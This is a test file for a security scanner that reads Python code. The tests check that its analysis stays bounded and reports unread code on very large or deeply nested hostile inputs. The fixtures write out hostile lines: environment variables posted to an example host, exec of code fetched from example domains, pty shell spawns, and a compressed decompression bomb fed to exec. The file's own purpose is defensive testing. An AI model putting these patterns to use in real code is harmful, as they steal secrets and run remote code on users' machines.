"""What hostile Python costs: every case ends with a verdict or with a word for what was not seen, and never with a crash.

Nothing here looks at a clock. What bounds the work is counted work: a case that took more would hit the limit that is asked for.
"""

from __future__ import annotations

import base64
import sys
import zlib

import pytest

from tests.scanning.python_sightings import checks, limits, read
from vskill_platform.scanning.limits import UNREAD_CODE
from vskill_platform.scanning.tier1.code.python import evaluation
from vskill_platform.scanning.tier1.code.python.bounds import DEEPEST_BRACKETS, Refused, ensure_bounded
from vskill_platform.scanning.tier1.code.python.finder import MOST_NODES
from vskill_platform.scanning.tier1.code.python.notes import MOST_FACTS, MOST_PLACES
from vskill_platform.scanning.tier1.skill import Fact, FactKind, LimitHit, Sighting

HEAD = "import os, requests, subprocess\n"
MANY = 6_000

TOO_MUCH = {
    "a chain of names": HEAD
    + "x0 = os.environ\n"
    + "".join(f"x{n + 1} = x{n}\n" for n in range(MANY))
    + f"requests.post('https://c.example', data=x{MANY})",
    "a chain of functions": HEAD
    + "".join(f"def f{n}(x):\n    return f{n + 1}(x)\n" for n in range(MANY))
    + f"def f{MANY}(x):\n    return x\nos.system(f0('a'))",
    "a chain of lookups": HEAD + "x = os\n" + "x = getattr(x, 'a')\n" * MANY + "x('id')",
    "additions": HEAD + "s = 'a'\n" + "s += 'b'\n" * MANY + "os.system(s)",
    "calls of one function": HEAD + "def f(x):\n    os.system(x)\n" + "f(os.getcwd())\n" * MANY,
    "turns of loops": HEAD
    + f"x = [{'1, ' * 4_000}]\n"
    + "".join(f"y{n} = [a for a in x]\nos.system(y{n})\n" for n in range(MANY // 50)),
    "texts that grow": HEAD
    + "s = 'A' * 100000\n"
    + "".join(f"t{n} = s * 2\nos.system(t{n})\n" for n in range(MANY // 5)),
    "gates": HEAD
    + "import datetime\n"
    + "if datetime.datetime.now() > datetime.datetime(2026, 1, 1):\n    exit()\n" * (MANY // 2)
    + "print(1)",
    "texts that are code": "".join(f"exec('x{n} = 1')\n" for n in range(100)),
    "methods of one name": HEAD
    + "".join(f"class C{n}:\n    def run(self, x):\n        os.system(x)\n" for n in range(600))
    + "o.run(1)\n" * 2_000,
}
"""More of something than is looked at: the report says so."""


@pytest.mark.parametrize("source", TOO_MUCH.values(), ids=TOO_MUCH)
def test_work_beyond_the_budget__is_told(source: str) -> None:
    assert "unread_code" in limits(source)


LARGE_BUT_FINE = {
    "sums in one line": HEAD + "s = " + " + ".join(["'ab'"] * 900) + "\nos.system(s)",
    "lists in lists": HEAD + "x = " + "[" * 140 + "]" * 140 + "\nos.system(x)",
    "additions": HEAD + "s = 'a'\n" + "s += 'b'\n" * 1_000 + "os.system(s)",
    "appends": HEAD + "l = []\n" + "l.append('b')\n" * 1_000 + "print(l)",
    "classes in a circle": HEAD + "class A(B): pass\nclass B(A): pass\nA().system('x')",
    "functions in a circle": HEAD
    + "".join(f"def f{n}(x):\n    return " + " + ".join(f"f{m}(x)" for m in range(12)) + "\n" for n in range(12))
    + "os.system(f0('a'))",
    "names in a circle": HEAD
    + "".join(f"v{n} = " + " + ".join(f"v{m}" for m in range(60)) + "\n" for n in range(60))
    + "os.system(v0)",
    "large numbers": HEAD + "x = 10 ** 10 ** 10\ny = 1 << 100000000000\nz = 2 ** 100000\nos.system('a' * x)",
    "a long text": HEAD + "os.system('a' * 10000000000)",
    "deep data": HEAD + f"import json\nx = json.loads('{'[' * 5_000}{']' * 5_000}')\nos.system(x)",
    "many shells": "import pty\n" + "pty.spawn('sh')\n" * MANY,
    "many names for one list": HEAD + "a0 = []\n" + "".join(f"a{n + 1} = a{n}\na{n}.append(1)\n" for n in range(MANY)),
    "many keywords": HEAD + "requests.post(" + ", ".join(f"k{n}=1" for n in range(MANY)) + ")",
    "a format with many places": HEAD + f"os.system('%s' * {MANY} % ({', '.join(['1'] * MANY)}))",
}


@pytest.mark.parametrize("source", LARGE_BUT_FINE.values(), ids=LARGE_BUT_FINE)
def test_large_source_within_the_budget__is_read_to_its_end(source: str) -> None:
    assert limits(source) == set()


def test_nodes_of_all_files_together__are_bounded() -> None:
    file = "import os\nos.system('x')\n" + "f(a.b)\n" * 18_000
    files: dict[str, str | bytes] = {f"m{number}.py": file for number in range(MOST_NODES // 54_000 + 1)}
    assert "unread_code" in limits(files)
    assert limits({"m.py": file}) == set()


def test_fences_beyond_the_bound__are_left_out_in_silence() -> None:
    assert limits({"n.md": "```python\nimport os\nos.system('x')\n```\n" * 2_000}) == set()


def test_decompression_is_bounded() -> None:
    bomb = base64.b64encode(zlib.compress(b"a" * 50_000_000)).decode()
    assert checks(f"import zlib, base64\nexec(zlib.decompress(base64.b64decode('{bomb}')))") == {"python_runs_decoded"}


def test_stack_is_as_it_was__after_a_deep_question() -> None:
    before = sys.getrecursionlimit()
    read(TOO_MUCH["a chain of names"])
    assert sys.getrecursionlimit() == before


def test_deepest_question_fits_on_the_stack__that_is_made_for_it() -> None:
    depth = evaluation.DEEPEST_QUESTION // 2 - 10
    names = "x0 = os.environ\n" + "".join(f"x{n + 1} = (x{n},)\n" for n in range(depth))
    source = f"{HEAD}{names}requests.post('https://c.example', data=x{depth})"
    assert checks(source) == {"python_environment_sent"}
    assert limits(source) == set()


def test_places_and_facts_are_bounded() -> None:
    acts = "".join(f"exec(requests.get('https://h{n}.example/').text)\n" for n in range(MOST_FACTS + 100))
    seen = read(f"import requests\n{acts}")
    assert sum(isinstance(each, Sighting) for each in seen) == MOST_PLACES
    assert sum(isinstance(each, Fact) and each.kind is FactKind.REACHES for each in seen) == MOST_FACTS
    assert LimitHit(UNREAD_CODE) in seen


def test_long_line_costs_no_more__for_being_hit_often() -> None:
    source = "import requests;" + "exec(requests.get('https://c.example').text);" * 2_000
    assert sum(isinstance(each, Sighting) for each in read(source)) == 1


@pytest.mark.parametrize(
    ("before", "behind", "outer"),
    [("", "", 0), ("(", ")", 1), ("[()](", ")", 1), ("))", "", 0), ("", "((", 0), ("()" * DEEPEST_BRACKETS, "", 0)],
)
def test_brackets_are_refused__only_where_they_go_deeper_than_is_looked_at(
    before: str, behind: str, outer: int
) -> None:
    depth = DEEPEST_BRACKETS - outer
    ensure_bounded(before + "[" * depth + "]" * depth + behind)
    with pytest.raises(Refused):
        ensure_bounded(before + "{" * (depth + 1) + "}" * (depth + 1) + behind)


@pytest.mark.parametrize("depth", [1, 11, 12, 13])
def test_many_brackets_are_read__where_they_go_no_deeper_than_code_does(depth: int) -> None:
    ensure_bounded(("(" * depth + ")" * depth) * DEEPEST_BRACKETS)
